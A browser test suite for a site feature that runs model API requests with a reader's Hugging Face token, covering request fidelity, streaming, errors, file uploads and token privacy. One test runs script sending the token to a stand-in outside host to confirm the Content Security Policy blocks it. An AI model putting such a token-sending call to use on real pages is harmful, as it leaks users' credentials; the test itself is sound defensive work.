import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { isPolicy, type ModelRecord, PROVIDERS, taskOf } from '@model-snippets/core'
import { findModel, MODELS } from '@model-snippets/core/catalogue'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { Asked, Question } from '../../../packages/twin/src/cases/case.ts'
import { ask, enumerateQuestions, kindOf } from '../../../packages/twin/src/cases/cases.ts'
import { type Answer, jsonAnswer, NO_ANSWER } from '../../../packages/twin/src/services/answer.ts'
import { chatService } from '../../../packages/twin/src/services/protocols/chat.ts'
import { FEW_TOKENS } from '../../../packages/twin/src/services/protocols/event-stream.ts'
import type { ArrivedRequest, Service } from '../../../packages/twin/src/services/request.ts'
import { ROUTER_HOST, type RouterServer, startRouterServer } from '../../../packages/twin/src/testing/router-server.ts'
import { wireRequest } from '../../../packages/twin/src/testing/wire.ts'
import { describeInBrowser, hydrated, IMAGE_MODEL, MODEL, VISION_MODEL } from './chromium.ts'
import { overflowOf, unfold, violationsOn } from './every-page.ts'
import { startSite } from './run-site.ts'

const TOKEN = 'hf_0123456789of_the_reader'
const ROUTER = `https://${ROUTER_HOST}`
const MOST_REQUESTS = 40
const FETCH = { language: 'js', client: 'fetch' } as const

let router: RouterServer
beforeAll(async () => {
  router = await startRouterServer()
})
afterAll(() => router.close())

/** One request that a reader may run, and the page of it. */
interface Case {
  readonly question: Question
  readonly model: ModelRecord
}

/** A model of the catalogue for each task; of chats several, so that each case is on another page than the one before. */
const modelsOf = (task: string): readonly ModelRecord[] => MODELS.filter((model) => taskOf(model) === task)

/** Every task, every provider and every kind of chat, as far as there is room. */
function casesToRun(): readonly Case[] {
  const questions = [...enumerateQuestions()].filter(
    ({ task, target, provider, variant = '' }) =>
      target === 'routed' &&
      PROVIDERS[provider]?.directOnly === undefined &&
      modelsOf(task).length > 0 &&
      (!isPolicy(provider) || task === 'conversational') &&
      !/async|robust/.test(variant),
  )
  const seen = new Set<string>()
  const isNew = (name: string): boolean => !seen.has(name) && seen.add(name) !== undefined
  const chosen = questions.filter(({ task, provider, streaming, variant }) =>
    task === 'conversational'
      ? variant === undefined
        ? isNew(`${provider}`)
        : isNew(`${variant} ${streaming}`)
      : [isNew(task), isNew(`${provider} does more than chat`)].some(Boolean),
  )
  const chats = chosen.filter(({ task }) => task === 'conversational')
  const others = chosen.filter(({ task }) => task !== 'conversational')
  return chats
    .flatMap((chat, index) => [chat, ...others.slice(index, index + 1)])
    .concat(others.slice(chats.length))
    .slice(0, MOST_REQUESTS)
    .map((question, index) => {
      const models = modelsOf(question.task)
      return { question, model: models[index % models.length] as ModelRecord }
    })
}

/** The address of the page that shows a case. */
function pathOf({ question, model, options, mapping }: Asked): string {
  const parameters = new URLSearchParams({ provider: question.provider })
  const { api, recipe, schema } = options
  if (question.streaming) parameters.set('stream', 'true')
  if (api !== undefined && api !== 'chat-completions') parameters.set('api', api)
  if (recipe !== undefined) parameters.set('recipe', recipe)
  if (schema !== undefined) parameters.set('schema', JSON.stringify(schema))
  if (mapping !== undefined && question.task !== 'conversational') parameters.set('providerId', mapping.providerId)
  return `/models/${model.id}?${parameters}`
}

const panel = (page: Page) => page.locator('.run-here')
const status = (page: Page) => panel(page).getByRole('status').first()

/** Answers whatever is asked. */
const always = (answer: Answer): Service => ({ name: 'any', answer: () => answer })

/** Opens the part that runs the request. */
async function openPanel(page: Page): Promise<void> {
  await panel(page).locator('summary').first().click()
  await panel(page)
    .getByText(/Hugging Face token|only requests to|to run the request here/)
    .first()
    .waitFor()
}

/** Goes to the page of another model, as a link does. */
async function go(page: Page, path: string): Promise<void> {
  await page.evaluate((to) => {
    history.pushState({ idx: history.length, key: to }, '', to)
    dispatchEvent(new PopStateEvent('popstate', { state: history.state as unknown }))
  }, path)
  const id = new URL(path, ROUTER).pathname.slice('/models/'.length)
  await page.getByRole('heading', { level: 1, name: id }).waitFor()
}

async function run(page: Page, phase = 'The response is complete.'): Promise<void> {
  await panel(page).getByLabel('Hugging Face token').fill(TOKEN)
  await panel(page).getByRole('button', { name: 'Run' }).click()
  await expect.poll(() => status(page).textContent()).toBe(phase)
}

const headerOf = ({ rawHeaders }: Pick<ArrivedRequest, 'rawHeaders'>, name: string): string =>
  rawHeaders.find(([key]) => key.toLowerCase() === name)?.[1] ?? ''

/** What matters of a request, however it is written. */
function essence(request: ArrivedRequest): unknown {
  const type = headerOf(request, 'content-type').replace(/;.*/s, '')
  const boundary = /boundary=(.+)$/.exec(headerOf(request, 'content-type'))?.[1] ?? ''
  const text = request.body.toString('latin1')
  // Of a form: the names of its parts, and the content of each.
  const parts = text
    .split(`--${boundary}`)
    .map((part) => [/ name="([^"]+)"/.exec(part)?.[1], part.split('\r\n\r\n')[1]])
  const body =
    type === 'application/json'
      ? (JSON.parse(request.body.toString()) as unknown)
      : type === 'multipart/form-data'
        ? parts.filter(([name]) => name !== undefined).sort()
        : text
  return {
    url: request.url,
    type,
    body: JSON.parse(JSON.stringify(body, (_, value: unknown) => withoutFiles(value))) as unknown,
  }
}

/** A file is compared by its digest: a difference shall be readable. */
function withoutFiles(value: unknown): unknown {
  if (typeof value !== 'string' || value.length < 2000) return value
  // Both are names of one type: fal knows a sound by the older one.
  const file = value.replace('data:audio/x-wav', 'data:audio/wav')
  return `${file.slice(0, 60)}… ${createHash('sha256').update(file).digest('hex')}`
}

/** All that a browser keeps. */
const kept = async (page: Page): Promise<string> =>
  JSON.stringify([
    await page.context().cookies(),
    await page.context().storageState({ indexedDB: true }),
    await page.evaluate(() => [
      { ...localStorage },
      { ...sessionStorage },
      location.href,
      history.state as unknown,
      document.documentElement.outerHTML,
    ]),
    await page.evaluate(async () =>
      Promise.all((await caches.keys()).map((name) => caches.open(name).then((cache) => cache.keys()))),
    ),
  ])

const FLAGS = {
  flags: () => [
    `--host-resolver-rules=MAP ${ROUTER_HOST}:443 127.0.0.1:${router.securePort}`,
    '--ignore-certificate-errors',
  ],
  mayAsk: ROUTER,
}

describeInBrowser(
  'a reader who runs the request from its page',
  ({ site, open }) => {
    it('gets from 40 requests of all kinds what fetch gets', async () => {
      const page = await open('/')
      const asked: { url: string; text: string }[] = []
      page.on('request', (request) =>
        asked.push({ url: request.url(), text: JSON.stringify(request.headers()) + (request.postData() ?? '') }),
      )
      await hydrated(page)
      const cases = casesToRun()
      expect(cases.length).toBe(MOST_REQUESTS)
      for (const { question, model } of cases) {
        const name = JSON.stringify([question, model.id])
        const asking = ask(question, { model })
        const { services } = kindOf(question).stage(
          asking.call,
          asking,
          kindOf(question).plainRun(question).scenario,
          FETCH,
        )
        const expected = wireRequest(asking)
        if (expected === undefined) throw new Error(`There is no request for ${name}`)
        router.play(services)
        const headers = { ...Object.fromEntries(expected.rawHeaders), Authorization: `Bearer ${TOKEN}` }
        const answer = await fetch(expected.url.replace(ROUTER, router.url), {
          method: expected.method,
          headers,
          body: new Uint8Array(expected.body),
        })
        const bytes = Buffer.from(await answer.arrayBuffer())
        expect([name, answer.ok]).toEqual([name, true])

        router.play(services)
        await go(page, pathOf(asking))
        await openPanel(page)
        await run(page)
        expect.soft([name, await panel(page).locator('dd').first().textContent()]).toEqual([name, `${answer.status}`])
        const [sent, ...more] = router.requests
        expect
          .soft([name, more.length, sent === undefined ? sent : essence(sent)])
          .toEqual([name, 0, essence(expected)])
        expect
          .soft([name, sent === undefined ? '' : headerOf(sent, 'authorization')])
          .toEqual([name, `Bearer ${TOKEN}`])
        expect.soft([name, await shownAnswer(page, bytes)]).toEqual([name, 'the same'])
      }
      expect(asked.filter(({ text }) => text.includes(TOKEN)).map(({ url }) => new URL(url).origin)).toEqual(
        cases.map(() => ROUTER),
      )
      expect(asked.filter(({ url }) => url.includes(TOKEN))).toEqual([])
      expect(await kept(page)).not.toContain(TOKEN)
    })

    it('sees a stream come, stops it, and learns why one fails', async () => {
      const page = await open(`${MODEL}?provider=together&stream=true`, { expectedComplaint: /status of 4\d\d|ERR_/ })
      await openPanel(page)
      // Without a token nothing is sent.
      router.play([])
      await panel(page).getByRole('button', { name: 'Run' }).click()
      await panel(page).getByText('Enter a token first.').waitFor()
      await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe('run-token')
      expect(router.requests).toEqual([])

      // What the twin answers is shown instead, for what it is.
      await panel(page).getByText('No token? See what our mock returns').click()
      await panel(page).getByText('No model generated this.').waitFor()
      await panel(page)
        .getByText(/^Antwort/)
        .waitFor()
      expect(router.requests).toEqual([])

      // By keyboard alone.
      await page.locator('#run-token').focus()
      router.play([
        chatService({ reply: 'Hello from afar', usage: FEW_TOKENS, reasoning: { text: 'Hm', names: ['reasoning'] } }),
      ])
      await page.keyboard.type(TOKEN)
      await page.keyboard.press('Enter')
      await expect.poll(() => status(page).textContent()).toBe('The response is complete.')
      await panel(page).getByText('Hello from afar', { exact: true }).waitFor()
      const figures = await panel(page).locator('dl').textContent()
      for (const part of ['Status200', 'Time to first token', 'Total time', 'Tokens per second', '9 in, 12 out'])
        expect(figures).toContain(part)

      // One that says nothing is stopped.
      router.play([always(NO_ANSWER)])
      await panel(page).getByRole('button', { name: 'Run' }).click()
      await expect.poll(() => status(page).textContent()).toBe('Sent. Waiting for a response…')
      await panel(page).getByRole('button', { name: 'Stop' }).click()
      await expect.poll(() => status(page).textContent()).toBe('Stopped. The partial response stays here.')

      // A service that repeats the token does not get it shown.
      router.play([always(jsonAnswer(401, { error: `Invalid username or password: ${TOKEN}` }))])
      await run(page, 'The request failed.')
      await panel(page).getByText('401: invalid token').waitFor()
      expect(await panel(page).textContent()).toContain('Invalid username or password')
      expect(await panel(page).textContent()).not.toContain(TOKEN)
      await page.context().setOffline(true)
      await run(page, 'The request failed.')
      await panel(page).getByText('You’re offline.').waitFor()
      await page.context().setOffline(false)

      // Another request is another answer.
      await page.getByLabel('Stream the response').click()
      await panel(page).getByText('You’ve changed the request.').waitFor()
      await page.getByLabel('Provider', { exact: true }).selectOption('groq')
      router.play([chatService({ reply: 'At once' })])
      await run(page)
      await panel(page).getByText('At once', { exact: true }).waitFor()
    })

    it('sends a token nowhere else, and leaves it nowhere', async () => {
      const page = await open(`${MODEL}?provider=together`, {
        expectedComplaint: /Content Security Policy|Failed to load/,
      })
      await openPanel(page)
      router.play([chatService({ reply: 'Hello' })])
      await run(page)
      await panel(page).getByText('Hello', { exact: true }).waitFor()
      // The policy lets no script send it elsewhere.
      const elsewhere = await page.evaluate(async (token) => {
        const refused = new Promise<string>((resolve) =>
          addEventListener('securitypolicyviolation', ({ blockedURI }) => resolve(blockedURI), { once: true }),
        )
        await fetch('https://elsewhere.example/', { headers: { authorization: token } }).catch(() => undefined)
        return refused
      }, TOKEN)
      expect(elsewhere).toBe('https://elsewhere.example/')
      expect(await kept(page)).not.toContain(TOKEN)
      // On the way back the field is empty.
      await page.goto('/agents')
      await page.goBack()
      await hydrated(page)
      if (!(await page.locator('#run-token').isVisible())) await openPanel(page)
      expect(await page.locator('#run-token').inputValue()).toBe('')
      expect(await kept(page)).not.toContain(TOKEN)
    })

    it('chooses a file of their own, and is told of what does not run here', async () => {
      const messages = [
        {
          role: 'user',
          content: [
            { type: 'text', text: '<me.png as data-url>' },
            { type: 'image_url', image_url: { url: 'me.png' } },
          ],
        },
      ]
      const page = await open(
        `${VISION_MODEL}?${new URLSearchParams({ provider: 'together', messages: JSON.stringify(messages) })}`,
      )
      await hydrated(page)
      await openPanel(page)
      router.play([chatService({ reply: 'A cat' })])
      await panel(page).getByLabel('Hugging Face token').fill(TOKEN)
      await panel(page).getByRole('button', { name: 'Run' }).click()
      await panel(page).getByText('Choose a file first.').waitFor()
      const buffer = Buffer.from('the bytes of a picture')
      await panel(page).getByLabel('File me.png').setInputFiles({ name: 'x.png', mimeType: 'image/png', buffer })
      await run(page)
      const [{ body = Buffer.from('') } = {}] = router.requests
      expect((JSON.parse(body.toString()) as { messages: unknown }).messages).toEqual([
        {
          role: 'user',
          content: [
            { type: 'text', text: '<me.png as data-url>' },
            { type: 'image_url', image_url: { url: `data:image/png;base64,${buffer.toString('base64')}` } },
          ],
        },
      ])
      await go(page, `${MODEL}?provider=together&directRequest=true`)
      await openPanel(page)
      await panel(page).getByText('You can run only requests to the Hugging Face router here.').waitFor()
      expect(await panel(page).getByRole('button').count()).toBe(0)
      await go(page, IMAGE_MODEL)
      await openPanel(page)
      await panel(page).getByText('Choose a provider to run the request here.').waitFor()
    })

    it.each(['light', 'dark'] as const)('reads it on a narrow screen, %s, in German', async (colorScheme) => {
      const question: Question = { task: 'text-to-image', provider: 'together', target: 'routed', streaming: false }
      const model = findModel(IMAGE_MODEL.slice('/models/'.length)) as ModelRecord
      const asking = ask(question, { model })
      const page = await open(pathOf(asking), {
        colorScheme,
        locale: 'de',
        viewport: { width: 320, height: 640 },
        bypassCSP: true,
      })
      await panel(page).locator('summary').first().click()
      router.play(kindOf(question).stage(asking.call, asking, { kind: 'success' }, FETCH).services)
      await panel(page).getByLabel('Hugging-Face-Token').fill(TOKEN)
      await panel(page).getByRole('button', { name: 'Ausführen' }).click()
      await expect.poll(() => status(page).textContent()).toBe('Die Antwort ist vollständig.')
      await panel(page).getByRole('img').waitFor()
      await panel(page).getByRole('link', { name: 'answer-1.jpg speichern' }).waitFor()
      await unfold(page)
      expect(await overflowOf(page)).toBe(0)
      expect(await violationsOn(page)).toEqual([])
    })

    it('finds nothing of it where the server turns it off', async () => {
      const { address, stop } = await startSite('off', 'off', { RUN_HERE: 'off', WORKERS: '1' })
      try {
        const response = await fetch(`${address}${MODEL}`)
        expect(await response.text()).not.toContain('Run it here')
        const policy = response.headers.get('content-security-policy') ?? ''
        expect(policy).toContain("connect-src 'self';")
        expect(policy).not.toContain('blob:')
        expect((await fetch(`${site}${MODEL}`)).headers.get('content-security-policy')).toContain(
          `connect-src 'self' ${ROUTER};`,
        )
      } finally {
        await stop()
      }
    })
  },
  'site',
  FLAGS,
)

/** Whether the page shows an answer, to the letter: as it came, as JSON, or as a file that is saved. */
async function shownAnswer(page: Page, bytes: Buffer): Promise<'the same' | readonly unknown[]> {
  const saves = panel(page).getByRole('link', { name: /^Save / })
  const text = bytes.toString()
  const isText = Buffer.from(text).equals(bytes)
  if (!isText) {
    const [download] = await Promise.all([page.waitForEvent('download'), saves.first().click()])
    const saved = readFileSync(await download.path())
    return saved.equals(bytes) ? 'the same' : [saved.length, bytes.length]
  }
  // A block of code ends with the end of a line.
  const shown = (await panel(page).locator('pre').last().textContent())?.trimEnd()
  const json = readJson(text)
  const expected =
    json === undefined || shown === text.trimEnd() ? text.trimEnd() : JSON.stringify(shortened(json), null, 2)
  if (shown !== expected) return [shown, expected]
  // A file in JSON is shown as one, too.
  const held = /"(?:data:[^"]*,)?([A-Za-z0-9+/=]{400,})"/.exec(text)?.[1]
  if (held === undefined) return 'the same'
  const [download] = await Promise.all([page.waitForEvent('download'), saves.first().click()])
  return readFileSync(await download.path()).equals(Buffer.from(held, 'base64')) ? 'the same' : ['another file']
}

function readJson(text: string): unknown {
  try {
    return JSON.parse(text)
  } catch {
    return undefined
  }
}

/** Long texts are cut on the page. */
const shortened = (json: unknown): unknown =>
  JSON.parse(JSON.stringify(json), (_, value: unknown) =>
    typeof value === 'string' && value.length > 300
      ? `${value.slice(0, 300)}… ${(value.length - 300).toLocaleString('en')} more characters`
      : value,
  )
